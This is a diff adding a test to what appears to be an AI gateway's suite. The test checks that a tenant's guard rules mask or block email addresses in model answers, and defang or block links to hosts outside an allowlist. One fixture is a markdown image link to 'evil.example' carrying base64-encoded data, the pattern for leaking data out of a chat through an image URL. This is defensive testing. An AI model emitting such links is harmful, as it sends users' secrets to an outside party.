@@ -342,3 +342,39 @@ test("a tenant that keeps pseudonyms is understood in a later turn that names on
   assert.equal(await ask(other, "one", `Who was [${name}]?`), `Who was [${name}]?`);
   assert.equal(await ask(key, "one", `Who was [${name}]?`), `Who was [${name}]?`);
 });
+
+test("what an answer may not hold is replaced or stopped by the tenant's rules, and counted by rule", async () => {
+  const say = async (
+    rules: Record<string, unknown>,
+    said: string,
+    content = "Go on",
+  ): Promise<{ status: number; text: string; guard: unknown }> => {
+    await weir.call("PATCH", "/admin/v1/tenants/answers", { guard: rules });
+    echo.say = () => said;
+    try {
+      const response = await weir.chat(answersKey, { model: "far", messages: [user(content)] });
+      const body = (await response.json()) as {
+        choices?: { message: { content: string } }[];
+        weir?: { guard?: unknown };
+        error?: { code: string };
+      };
+      return { status: response.status, text: body.choices?.[0]?.message.content ?? body.error?.code ?? "", guard: body.weir?.guard };
+    } finally {
+      echo.say = undefined;
+    }
+  };
+  const { key: answersKey } = await weir.tenant("answers");
+  const mail = "Write to zoe.q@example.net about it.";
+  assert.deepEqual(await say({}, mail), { status: 200, text: mail, guard: { answer: { "personal-data": 1 } } });
+  assert.equal((await say({ outputPii: "mask" }, mail)).text, "Write to [EMAIL] about it.");
+  assert.deepEqual(await say({ outputPii: "mask" }, mail, "Who is zoe.q@example.net?"), {
+    status: 200,
+    text: mail,
+    guard: { found: { EMAIL: 1 }, masked: true },
+  });
+  assert.deepEqual(await say({ outputPii: "block" }, mail), { status: 502, text: "output_blocked", guard: undefined });
+  const link = "Look: ![x](https://evil.example/p?d=c2VjcmV0) done";
+  assert.doesNotMatch((await say({ outputLinks: "defang", linkHosts: ["good.example"] }, link)).text, /evil/);
+  assert.equal((await say({ outputLinks: "block", linkHosts: ["good.example"] }, link)).text, "output_blocked");
+  assert.equal((await say({ outputLinks: "block", linkHosts: ["evil.example"] }, link)).status, 200);
+});
